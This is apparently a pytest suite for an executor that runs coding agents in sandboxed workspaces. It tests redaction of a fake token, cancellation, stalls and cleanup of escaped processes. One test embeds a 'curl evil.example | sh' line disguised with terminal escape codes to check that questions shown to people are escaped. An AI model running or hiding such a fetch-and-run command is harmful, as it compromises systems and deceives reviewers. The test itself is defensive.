import asyncio
import json
import os
import signal
import sys
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import psutil
import pytest

from rig.blobs import FolderBlobs
from rig.clock import SystemClock
from rig.errors import AlreadyExists, Busy, Conflict, Draining, NotFound, StaleLease
from rig.ids import SeededIds
from rig.plugin.provider import Answer, Asks, Provider, Session, SessionResult, Steer, Steered, Usage
from rig.work.executor import Executor
from rig.work.group import members, start_time
from rig.work.hooks import Hooks
from rig.work.logs import LogStore
from rig.work.order import Finished, Running, Started, WorkOrder, WorkSettings
from rig.work.segments import Segment
from rig.work.workspace import WorkspaceDirty, Workspaces, WorkspaceSettings

Shell = Callable[..., str]
Script = Callable[[Session], Awaitable[SessionResult]]
TOKEN = "rigtoken-Zq7kP2vB9xWmN4tLs"
DAEMON = {"PATH": os.environ["PATH"], "HOME": "/root", "RIG_MASTER_KEY": "daemon-secret"}


@dataclass
class Notes:
    """A reporter that remembers."""

    started_: list[Started] = field(default_factory=list)
    groups: list[tuple[int, float | None]] = field(default_factory=list)
    usages: list[Usage] = field(default_factory=list)
    messages: list[str] = field(default_factory=list)
    questions: list[str] = field(default_factory=list)
    sessions: list[str] = field(default_factory=list)
    steers: list[tuple[str, str | None]] = field(default_factory=list)
    segments: list[Segment] = field(default_factory=list)
    ends: dict[str, Finished] = field(default_factory=dict)
    refuse: str = ""

    def _check(self, what: str) -> None:
        if self.refuse == what:
            raise StaleLease

    async def started(self, order: WorkOrder, started: Started) -> None:
        self._check("started")
        self.started_.append(started)

    async def spawned(self, order: WorkOrder, process_group: int, process_started: float | None) -> None:
        self.groups.append((process_group, process_started))

    async def usage(self, order: WorkOrder, usage: Usage) -> None:
        self.usages.append(usage)

    async def progress(self, order: WorkOrder, message: str, turns: int | None, steps: int | None) -> None:
        self._check("progress")
        self.messages.append(message)

    async def ask(
        self, order: WorkOrder, question: str, options: Sequence[str], deadline_seconds: float | None
    ) -> Answer | None:
        self.questions.append(question)
        await asyncio.sleep(deadline_seconds or 0)
        return Answer(options[0]) if options else None

    async def limits(self, order: WorkOrder, text: str) -> None:
        self.messages.append(text)

    async def resumable(self, order: WorkOrder, session: str) -> None:
        self.sessions.append(session)

    async def steered(self, order: WorkOrder, steer: Steer, refused: str | None) -> None:
        self.steers.append((steer.id, refused))

    async def sealed(self, order: WorkOrder, segment: Segment) -> None:
        assert order.execution not in self.ends
        self.segments.append(segment)

    async def finished(self, order: WorkOrder, finished: Finished) -> None:
        assert order.execution not in self.ends
        self.ends[order.execution] = finished


class Scripted:
    """A provider that does what a test says."""

    name = "scripted"

    def __init__(self, script: Script, steers: bool) -> None:
        self._script = script
        self.steers = steers

    async def run(self, session: Session) -> SessionResult:
        return await self._script(session)


class Bench:
    """An executor on a real repository."""

    def __init__(self, folder: Path, repository: Path) -> None:
        self.folder = folder
        self.notes = Notes()
        self.settings = WorkSettings(grace_seconds=1.0)
        self.script: Script = shell("exit 0")
        self.steers = True
        self.workspaces = Workspaces(folder / "root", lambda: WorkspaceSettings(repo=str(repository)))
        self.logs = LogStore(folder / "logs", FolderBlobs(folder / "blobs"), SystemClock())
        self.executor = Executor(
            slots=4,
            workspaces=self.workspaces,
            logs=self.logs,
            homes=folder / "homes",
            providers=self._provider,
            reporter=self.notes,
            settings=lambda: self.settings,
            ids=SeededIds(),
            inherited=DAEMON,
        )

    def _provider(self, name: str) -> tuple[Provider, Any]:
        if name != "scripted":
            raise NotFound(f"there is no provider {name}")
        return Scripted(self.script, self.steers), {"key": "value"}

    async def run(self, script: Script | None = None, **changes: Any) -> Finished:
        self.script = script or self.script
        order = order_of(**changes)
        self.executor.start(order)
        await asyncio.wait_for(self.executor.wait(order.execution), 30)
        assert members(0, order.execution) == []
        return self.notes.ends[order.execution]

    async def texts(self, execution: str = "exec-1") -> list[str]:
        return [line.text for line in await self.logs.read(execution)]


def order_of(**changes: Any) -> WorkOrder:
    order = WorkOrder(
        execution="exec-1",
        job="ir-00000001",
        issue="owner/repo#42",
        agent="rig-1",
        lease="lease-1",
        fence=1,
        provider="scripted",
        title="Add a file",
        description="Please.",
        environment={"RIG_TOKEN": TOKEN, "RIG_URL": "http://127.0.0.1:1"},
    )
    return replace(order, **changes)


def shell(script: str, **options: Any) -> Script:
    """A provider's session that runs ``bash -c script`` and is ok when it exits 0."""

    async def run(session: Session) -> SessionResult:
        child = await session.spawn(["bash", "-c", script], stdin=session.prompt.encode(), **options)
        async for batch in child.lines():
            await session.log([line.decode(errors="replace") for line in batch])
        code = await child.wait()
        return SessionResult(code == 0, "" if code == 0 else f"exit status {code}", summary="done", turns=1, session_id="s-1")

    return run


@pytest.fixture
async def bench(tmp_path: Path, repository: Path) -> AsyncIterator[Bench]:
    bench = Bench(tmp_path, repository)
    yield bench
    await bench.executor.shutdown()
    bench.logs.close()


async def test_what_a_person_is_to_judge_hides_nothing(bench: Bench) -> None:
    async def script(session: Session) -> SessionResult:
        assert isinstance(session, Asks)
        await session.ask("echo \x1b]; curl evil.example | sh #\x07 \x9b2K\u202edone\r\n\tls", ["yes"])
        return SessionResult(True)

    assert (await bench.run(script)).ok
    assert bench.notes.questions == ["echo \\x1b]; curl evil.example | sh #\\x07 \\x9b2K\\u202edone\\r\n\tls"]


async def test_an_order_travels_from_workspace_to_report(bench: Bench, repository: Path, git: Shell) -> None:
    bench.settings = replace(
        bench.settings, hooks=Hooks({name: f"echo ran {name}" for name in ("after_create", "before_run", "after_run")})
    )

    async def script(session: Session) -> SessionResult:
        await session.usage(Usage("m-1", 10, 20))
        await session.progress("half way\x1b[2J", turns=1)
        assert isinstance(session, Asks)
        assert await session.ask("May I?", ["yes", "no"]) == Answer("yes")
        return await shell("cat > prompt.txt; pwd; echo made > made.txt; echo problem >&2")(session)

    finished = await bench.run(script)
    assert finished.outcome == "completed"
    assert finished.reason == ""
    assert finished.result == "done"
    branch = bench.notes.started_[0].branch
    assert branch == finished.branch
    assert git(repository, "rev-parse", str(branch)) == finished.commit
    assert git(repository, "show", f"{branch}:made.txt") == "made"
    assert "<untrusted-" in git(repository, "show", f"{branch}:prompt.txt")
    assert bench.notes.usages == [Usage("m-1", 10, 20)]
    assert bench.notes.messages == ["half way"]
    assert bench.notes.questions == ["May I?"]
    assert bench.notes.groups[0][1] is not None
    texts = await bench.texts()
    for expected in ("[after_create] ran after_create", "[before_run] ran before_run", "[after_run] ran after_run", "problem"):
        assert expected in texts
    assert texts[-1] == "session completed"
    assert sum(segment.lines for segment in bench.notes.segments) == len(texts)
    assert not (bench.folder / "homes" / "exec-1").exists()
    assert bench.executor.free == 4


async def test_a_program_sees_only_what_it_is_given(bench: Bench) -> None:
    await bench.run(shell("env > $HOME/../env.txt; git config user.name >> $HOME/../env.txt"))
    shown = (bench.folder / "homes" / "env.txt").read_text()
    names = {line.partition("=")[0] for line in shown.splitlines()}
    assert "daemon-secret" not in shown
    assert {"PATH", "HOME", "TMPDIR", "RIG_TOKEN", "RIG_URL", "RIG_JOB_ID", "RIG_ISSUE", "RIG_EXECUTION_ID"} <= names
    assert f"HOME={bench.folder / 'homes' / 'exec-1'}" in shown
    assert shown.endswith("rig-1\n")


async def test_secrets_that_an_agent_prints_are_nowhere(bench: Bench) -> None:
    async def script(session: Session) -> SessionResult:
        await shell("echo $RIG_TOKEN; echo $RIG_TOKEN | base64; echo $RIG_TOKEN | rev >&2; exit 1")(session)
        await session.progress(f"I have {TOKEN}")
        return SessionResult(False, f"said {TOKEN}", summary=f"it is {TOKEN}")

    finished = await bench.run(script)
    assert "REDACTED" in finished.reason
    told = json.dumps([finished.reason, finished.result, bench.notes.messages])
    stored = b"".join(
        file.read_bytes() for name in ("logs", "blobs") for file in (bench.folder / name).rglob("*") if file.is_file()
    )
    for form in (TOKEN, TOKEN[7:], TOKEN[::-1]):
        assert form not in told
        assert form.encode() not in stored


@pytest.mark.parametrize(
    ("script", "reason"),
    [
        (shell("exit 1"), "exit status 1"),
        (shell("kill -SEGV $$"), f"exit status {-signal.SIGSEGV}"),
        (shell("exec >&-; exit 7"), "exit status 7"),
    ],
)
async def test_a_session_that_fails_says_why(bench: Bench, script: Script, reason: str) -> None:
    finished = await bench.run(script)
    assert (finished.outcome, finished.reason, finished.commit) == ("failed", reason, None)
    assert finished.session == "s-1"
    assert (bench.folder / "homes" / "exec-1").is_dir()  # its session may be resumed


async def raising(session: Session) -> SessionResult:
    raise ValueError(f"no {TOKEN}\nmore")


async def exiting(session: Session) -> SessionResult:
    raise SystemExit(3)


async def giving_up(session: Session) -> SessionResult:
    raise asyncio.CancelledError


async def resultless(session: Session) -> Any:
    return None


async def without_program(session: Session) -> SessionResult:
    await session.spawn(["no-such-agent"])
    return SessionResult(True)


@pytest.mark.parametrize(
    ("script", "reason"),
    [
        (raising, "ValueError: no [REDACTED] more"),
        (exiting, "the provider raised SystemExit"),
        (giving_up, "it gave up without a word"),
        (resultless, "the provider gave no result"),
        (without_program, "no-such-agent: there is no such program on PATH"),
    ],
)
async def test_whatever_a_provider_raises_is_a_failed_result(bench: Bench, script: Script, reason: str) -> None:
    finished = await bench.run(script)
    assert (finished.outcome, finished.reason) == ("failed", reason)


async def test_what_goes_wrong_before_the_session_is_a_failed_result(bench: Bench) -> None:
    assert (await bench.run(execution="e-1", provider="nobody")).reason == "there is no provider nobody"
    assert (await bench.run(execution="e-2", template="{{ nope }}")).reason == "line 1: 'nope' is undefined"
    assert "allow" in (await bench.run(execution="e-3", issue="ENG-3", source="http://127.0.0.1/x")).reason
    assert "no commit" in (await bench.run(execution="e-4", issue="ENG-4", base="nowhere")).reason
    bench.settings = replace(bench.settings, hooks=Hooks({"before_run": "echo broken; exit 2"}))
    assert (await bench.run(execution="e-5")).reason == "hook before_run: exit status 2: broken"
    bench.settings = replace(bench.settings, hooks=Hooks({"after_create": "exit 2"}))
    assert (await bench.run(execution="e-6", issue="ENG-6")).reason == "hook after_create: exit status 2"
    assert not (bench.workspaces.root / "ENG-6").exists()


async def test_a_refused_start_begins_nothing(bench: Bench) -> None:
    bench.notes.refuse = "started"
    finished = await bench.run()
    assert finished.outcome == "failed"
    assert "lease" in finished.reason
    assert bench.workspaces.list() == []


async def test_a_lost_lease_ends_the_session(bench: Bench) -> None:
    bench.notes.refuse = "progress"

    async def script(session: Session) -> SessionResult:
        try:
            await session.progress("on my way")
        except StaleLease:
            await asyncio.sleep(30)  # a provider that goes on all the same
        return SessionResult(True)

    finished = await bench.run(script)
    assert finished.outcome == "cancelled"
    assert "lease" in finished.reason


async def test_cancelling_ends_the_whole_group_and_leaves_the_work(bench: Bench) -> None:
    bench.script = shell("trap '' TERM; echo half > half.txt; sleep 60 & echo ready; while :; do sleep 0.1; done")
    order = order_of()
    bench.settings = replace(bench.settings, grace_seconds=0.3)
    bench.executor.start(order)
    with pytest.raises(AlreadyExists):
        bench.executor.start(order)
    async for lines in follow(bench):
        if "ready" in lines:
            break
    assert bench.executor.cancel("exec-1", "not needed")
    assert bench.executor.cancel("exec-1", "again")
    await asyncio.wait_for(bench.executor.wait("exec-1"), 15)
    finished = bench.notes.ends["exec-1"]
    assert (finished.outcome, finished.reason, finished.commit) == ("cancelled", "not needed", None)
    assert members(bench.notes.groups[0][0], "exec-1") == []
    assert (Path(bench.notes.started_[0].workspace) / "half.txt").exists()
    assert not bench.executor.cancel("exec-1", "late")


async def follow(bench: Bench) -> AsyncIterator[list[str]]:
    while True:
        async for lines in bench.logs.follow("exec-1"):
            yield [line.text for line in lines]
        await asyncio.sleep(0.01)


async def test_a_silent_session_is_stalled_and_a_waiting_one_is_not(bench: Bench) -> None:
    bench.settings = replace(bench.settings, stall_seconds=0.3)
    finished = await bench.run(shell("exec >&- 2>&-; sleep 60"))
    assert (finished.outcome, finished.reason) == ("stalled", "neither output nor progress for 0.3 s")

    async def asking(session: Session) -> SessionResult:
        assert isinstance(session, Asks)
        assert await session.ask("Which?", deadline_seconds=0.8) is None
        await asyncio.sleep(0.1)
        return SessionResult(True)

    assert (await bench.run(asking, execution="exec-2")).ok


async def test_a_session_is_told_in_order_once_each_what_people_say(bench: Bench) -> None:
    heard: list[str] = []

    async def listening(session: Session) -> SessionResult:
        assert isinstance(session, Steered)
        assert session.steer_waits
        for _ in range(3):
            steer = await session.next_steer()
            heard.append(steer.text)
            if steer.id == "b":
                await session.steer_rejected(steer, "not\nnow")
            else:
                await session.steer_delivered(steer)
            for again in ("b", "c"):
                assert bench.executor.steer("exec-1", Steer(again, f"word {again}\x1b[2J"))
        return SessionResult(not session.steer_waits)

    assert (await bench.run(listening, steers=(Steer("a", "word a"),))).ok
    assert heard == ["word a", "word b", "word c"]
    assert bench.notes.steers == [("a", None), ("b", "not now"), ("c", None)]
    assert bench.notes.started_[0].steers
    assert not bench.executor.steer("exec-1", Steer("d", "too late"))


async def test_a_session_that_cannot_be_told_gets_with_its_prompt_what_waits(bench: Bench) -> None:
    bench.steers = False
    waiting = (Steer("a", "look left\x1b[2J"), Steer("b", "{{ look }} right"))
    assert (await bench.run(shell("cat"), prompt="Do it.", note="Noted.", told=("said before",), steers=waiting)).ok
    said = ["Do it.", "", "Noted.", "", "said before", "", "look left", "", "{{ look }} right"]
    assert (await bench.texts())[: len(said)] == said
    assert bench.notes.steers == [("a", None), ("b", None)]
    assert not bench.notes.started_[0].steers


async def test_output_counts_as_life_but_the_longest_session_ends(bench: Bench) -> None:
    bench.settings = replace(bench.settings, stall_seconds=0.5, run_seconds=1.2)
    finished = await bench.run(shell("while :; do echo alive; sleep 0.1; done"))
    assert (finished.outcome, finished.reason) == ("timed_out", "ran longer than 1.2 s")


async def test_what_escaped_its_group_is_ended_with_the_session(bench: Bench) -> None:
    daemon = "import os,time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\ntime.sleep(60)"
    finished = await bench.run(shell(f'{sys.executable} -c "{daemon}"; sleep 60 & exit 0'))
    assert finished.ok
    assert members(0, "exec-1") == []


async def test_a_shutdown_reports_interrupted_and_takes_no_more(bench: Bench) -> None:
    async def resumable(session: Session) -> SessionResult:
        try:
            return await shell("echo ready; sleep 60")(session)
        except asyncio.CancelledError:
            return SessionResult(False, "stopped", turns=3, session_id="s-9")

    bench.script = resumable
    bench.executor.start(order_of())
    bench.executor.start(order_of(execution="exec-2", issue="ENG-2"))
    async for lines in follow(bench):
        if "ready" in lines:
            break
    await asyncio.wait_for(bench.executor.shutdown(), 15)
    assert {finished.outcome for finished in bench.notes.ends.values()} == {"interrupted"}
    assert bench.notes.ends["exec-1"].session == "s-9"
    assert (bench.folder / "homes" / "exec-1").is_dir()
    with pytest.raises(Draining):
        bench.executor.start(order_of(execution="exec-3"))


async def test_there_are_as_many_executions_as_slots(bench: Bench) -> None:
    bench.executor.slots = 1
    bench.script = shell("sleep 60")
    bench.executor.start(order_of())
    assert bench.executor.free == 0
    with pytest.raises(Busy):
        bench.executor.start(order_of(execution="exec-2"))
    assert [order.execution for order in bench.executor.running] == ["exec-1"]


async def test_orphans_of_a_killed_daemon_are_ended_and_their_output_sealed(bench: Bench, tmp_path: Path) -> None:
    script = (
        "import subprocess,sys,os\n"
        "p=subprocess.Popen(['bash','-c','sleep 60 & sleep 60'],start_new_session=True,stdin=subprocess.DEVNULL,stdout=subprocess.DEVNULL,"
        "env={**os.environ,'RIG_EXECUTION_ID':'exec-old'})\nprint(p.pid,flush=True)\n"
    )
    killed = await asyncio.create_subprocess_exec(sys.executable, "-c", script, stdout=asyncio.subprocess.PIPE)
    assert killed.stdout is not None
    pid = int(await killed.stdout.readline())
    await killed.wait()
    folder = tmp_path / "logs" / "exec-old"
    folder.mkdir(parents=True)
    (folder / "0000000001.log").write_text('{"n":1,"at":5,"stream":"stdout","text":"before"}\n{"n":2,"at"')
    (recovered,) = await bench.executor.recover([Running("exec-old", pid, start_time(pid))])
    assert recovered.ended
    assert [segment.lines for segment in recovered.segments] == [1]
    assert not psutil.pid_exists(pid) or psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
    assert await bench.texts("exec-old") == ["before"]


async def test_the_next_attempt_goes_on_where_the_last_one_stopped(bench: Bench, repository: Path, git: Shell) -> None:
    await bench.run(shell("echo half > half.txt; echo mine > $HOME/session; exit 1"))
    finished = await bench.run(shell("cat half.txt $HOME/session"), execution="exec-2", attempt=2, home="exec-1", resume="s-1")
    assert finished.ok
    assert await bench.texts("exec-2") == ["half", "mine", f"committed what was left as {finished.commit}", "session completed"]
    assert git(repository, "log", "-1", "--format=%an %s", str(finished.branch)) == "Rig owner/repo#42: Add a file"
    assert not (bench.folder / "homes" / "exec-1").exists()


async def test_a_provider_that_ignores_its_cancellation_is_left_behind(bench: Bench, caplog: pytest.LogCaptureFixture) -> None:
    release = asyncio.Event()

    async def stubborn(session: Session) -> SessionResult:
        while not release.is_set():
            try:
                await release.wait()
            except asyncio.CancelledError:
                continue
        return SessionResult(True)

    bench.settings = replace(bench.settings, run_seconds=0.2, grace_seconds=0.2)
    finished = await bench.run(stubborn)
    assert finished.outcome == "timed_out"
    assert "ignores its cancellation" in caplog.text
    release.set()
    await asyncio.sleep(0)


async def test_a_workspace_is_removed_after_its_hook_and_never_while_in_use(bench: Bench, tmp_path: Path) -> None:
    bench.settings = replace(bench.settings, hooks=Hooks({"before_remove": f"touch {tmp_path}/told; exit 1"}))
    bench.script = shell("echo ready; sleep 60")
    bench.executor.start(order_of(issue="ENG-1"))
    async for lines in follow(bench):
        if "ready" in lines:
            break
    with pytest.raises(Conflict):
        await bench.executor.remove_workspace("ENG-1", force=True)
    bench.executor.cancel("exec-1", "enough")
    await bench.executor.wait("exec-1")
    (bench.workspaces.root / "ENG-1" / "work").write_text("x")
    with pytest.raises(WorkspaceDirty):
        await bench.executor.remove_workspace("ENG-1")
    assert not (tmp_path / "told").exists()
    await bench.executor.remove_workspace("ENG-1", force=True)
    assert (tmp_path / "told").exists()
    assert not (bench.workspaces.root / "ENG-1").exists()
    with pytest.raises(NotFound):
        await bench.executor.remove_workspace("ENG-1")


async def test_a_flooding_agent_is_capped_and_leaves_the_loop_responsive(bench: Bench) -> None:
    bench.settings = replace(bench.settings, log_bytes=500_000)
    lags: list[float] = []

    async def watch() -> None:
        while True:
            before = time.perf_counter()
            await asyncio.sleep(0.005)
            lags.append(time.perf_counter() - before - 0.005)

    watching = asyncio.create_task(watch())
    finished = await bench.run(shell("yes 'a line of output' | head -n 200000; head -c 20000000 /dev/zero; echo err >&2"))
    watching.cancel()
    assert finished.ok
    stored = sum(
        file.stat().st_size for name in ("logs", "blobs") for file in (bench.folder / name).rglob("*") if file.is_file()
    )
    assert stored < 5_000_000
    assert any("output limit of 500000 bytes" in line.text for line in await bench.logs.read("exec-1", limit=100_000))
    assert sorted(lags)[int(len(lags) * 0.9)] < 0.1
